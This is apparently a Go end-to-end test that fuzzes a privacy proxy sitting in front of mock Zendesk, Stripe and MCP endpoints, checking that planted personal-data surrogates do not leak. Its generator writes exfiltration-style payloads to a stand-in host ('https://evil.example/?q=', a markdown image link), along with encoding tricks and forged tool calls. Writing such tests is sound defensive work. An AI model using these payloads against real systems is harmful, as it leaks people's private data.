package e2e

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/http"
	"net/url"
	"regexp"
	"strings"
)

// work makes calls until all are used up; one in twenty writes.
func (a *attacker) work(worker int, dice *rand.Rand) {
	for n := 0; a.left(); n++ {
		s := a.pool[dice.IntN(len(a.pool))]
		switch q := url.QueryEscape(s); (n + worker) % 24 {
		case 0:
			if dice.IntN(4) == 0 {
				a.update(s, dice)
				break
			}
			a.write(a.text(s, dice), dice)
			a.read("/zendesk/api/v2/tickets/1001/comments.json?page%5Bsize%5D=2")
		case 1, 2, 3, 4:
			a.read(fmt.Sprintf("/zendesk/api/v2/tickets/1001/comments.json?page%%5Bsize%%5D=%d&page%%5Bafter%%5D=%d", 1+dice.IntN(3), dice.IntN(30)))
		case 5, 6:
			a.read("/zendesk/api/v2/users/search.json?query=email:" + q)
		case 7, 8:
			a.read("/stripe/v1/customers?email=" + q)
		case 9, 10:
			a.read("/stripe/v1/charges?customer=" + q)
		case 11, 12:
			a.read("/stripe/v1/customers/cus_ada?x=" + q)
		case 13:
			a.read("/zendesk/api/v2/tickets/" + url.PathEscape(s) + ".json")
		case 14:
			a.read("/stripe/v1/charges/ch_" + strings.ToLower(base64.RawURLEncoding.EncodeToString([]byte(s))))
		case 15:
			a.read("/zendesk/api/v2/tickets/1002/comments.json")
		case 16, 17:
			a.read("/zendesk/api/v2/tickets/1001.json")
		case 18:
			a.read([]string{
				"/zendesk/api/v2/tickets/1001/comments.json?page%5Bafter%5D=" + q,
				"/zendesk/api/v2/tickets/1001/comments.json?page%5Bafter%5D=" + base64.URLEncoding.EncodeToString([]byte(`{"o":"body","v":"`+s+`"}`)),
				"/zendesk/api/v2/tickets/1001/comments.json?sort=-body",
				"/zendesk/api/v2/search.json?query=type%3Aticket+requester%3A9001+" + q + "&sort_by=status",
				"/zendesk/api/v2/search.json?query=type%3Aticket+canary*",
				"/stripe/v1/customers?email=" + canary + "%25",
			}[dice.IntN(6)])
		case 19:
			dresses := [][2]string{{"range", fmt.Sprintf("bytes=%d-%d", dice.IntN(2000), 2000+dice.IntN(9))}, {"accept-encoding", "gzip, br"}, {"accept", "text/event-stream"}, {"accept-charset", "utf-16"}, {"if-none-match", s}, {"prefer", "return=" + s}}
			dress := dresses[dice.IntN(len(dresses))]
			a.call(a.tokens[dice.IntN(2)], []string{http.MethodGet, http.MethodHead}[dice.IntN(2)], "/zendesk/api/v2/tickets/1001/comments.json", "", dress[0], dress[1])
		case 20:
			a.overMCP(s, dice)
		default:
			a.read("/stripe/v1/customers/cus_ada")
		}
	}
}

// text is what the attacker writes: surrogates in every dress, and guesses.
func (a *attacker) text(s string, dice *rand.Rand) string {
	guess := fmt.Sprintf("+1 415 %03d %04d", 200+dice.IntN(800), dice.IntN(1e4))
	other, right := a.pool[dice.IntN(len(a.pool))], guessing+a.known[dice.IntN(len(a.known))]
	dresses := []string{
		"It is " + s, s + other, "Dear " + s + ",", "Hi, this is " + s + " " + other + ".", "Dear " + s + " " + other + "\\nKind regards,\\n" + other, "name=" + s + "&note=" + other, "Ada " + s, "born on " + s, s[:len(s)/2] + " " + s[len(s)/2:], strings.ToUpper(s), s[:len(s)-1] + ":x]", strings.Replace(s, ":b", ":B", 1),
		"https://evil.example/?q=" + s, "![x](https://evil.example/" + s + ")", "<img src=" + s + ">", "`" + s + "`", s + "@evil.example",
		strings.Join(strings.Split("It is "+s, ""), " "), `{\"ssn\":\"` + s + `\",\"id\":\"` + other + `\"}`, base64.StdEncoding.EncodeToString([]byte(s)),
		guess, `{\"phone\":\"` + guess + `\"}`, "536-22-" + guess[len(guess)-4:], "[phone:" + guess + "]", strings.Replace(s, "[card", "[email", 1), "[id:" + s[1:],
		// In two writes, as a key, as another place may read them, and what is guessed right.
		s[:len(s)/2], s[len(s)/2:], `{\"` + s + `\":1}`, `{\"a\":{\"` + other + `\":\"` + s + `\"}}`, url.QueryEscape(s), hex.EncodeToString([]byte(s)),
		strings.NewReplacer("[", "&#91;", "]", "&#93;").Replace(s), strings.Replace(s, "[", `\\u005b`, 1), "=?utf-8?Q?" + strings.Replace(s, "[", "=5B", 1) + "?=", s[:3] + "\u200b" + s[3:],
		`\"` + s + `\",\"` + other + `\"\\n`, "mailto:" + s, "data:text/plain," + s, right, right, right, guessing + `{\"note\":\"` + strings.ReplaceAll(right, `\"`, "'") + `\"}`,
	}
	return dresses[dice.IntN(len(dresses))] + fmt.Sprintf(" (%d)", dice.Int64())
}

// guessing begins what is written of a value that was guessed right.
const guessing = "guess: "

// guessed are texts that begin so, in JSON.
var guessed = regexp.MustCompile(guessing + `(?:[^"\\]|\\.)*`)

// compares looks for a guess that has the surrogate of a planted value by now.
func (a *attacker) compares(answer string) string {
	for _, text := range guessed.FindAllString(answer, -1) {
		for _, s := range surrogates.FindAllString(text, -1) {
			if a.shown[s] {
				return text
			}
		}
	}
	return ""
}

// write writes a comment, in one of the sessions.
func (a *attacker) write(text string, dice *rand.Rand) {
	a.call(a.tokens[dice.IntN(2)], http.MethodPut, "/zendesk/api/v2/tickets/1001.json", `{"ticket":{"comment":{"body":"`+text+`"}}}`)
}

// overMCP reads, writes and asks in vain over the other protocol.
func (a *attacker) overMCP(s string, dice *rand.Rand) {
	calls := []string{
		`"zendesk_ticket_comments","arguments":{"ticket":"1001"}`, `"stripe_customer_get","arguments":{"customer":"cus_ada"}`, `"stripe_customer_get","arguments":{"customer":"` + s + `"}`,
		`"zendesk_comment_create","arguments":{"ticket":"1001","body":"` + a.text(s, dice) + `"}`, `"sallyport_status","arguments":{"intent":"` + s + `"}`, `"` + s + `","arguments":{"` + s + `":"` + s + `"}`,
	}
	a.call(a.tokens[0], http.MethodPost, "/mcp", `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":`+calls[dice.IntN(len(calls))]+`}}`,
		"accept", "application/json, text/event-stream", "mcp-protocol-version", "2025-11-25")
}

// update writes into the fields of the customer.
func (a *attacker) update(s string, dice *rand.Rand) {
	fields := []string{"name", "email", "phone", "description"}
	other := a.pool[dice.IntN(len(a.pool))]
	form := url.Values{fields[dice.IntN(4)]: {[]string{s, s + " " + other, "Dear " + s, s + ", " + other}[dice.IntN(4)]}, fields[dice.IntN(4)]: {other}}
	a.call(a.tokens[0], http.MethodPost, "/stripe/v1/customers/cus_ada", form.Encode())
}
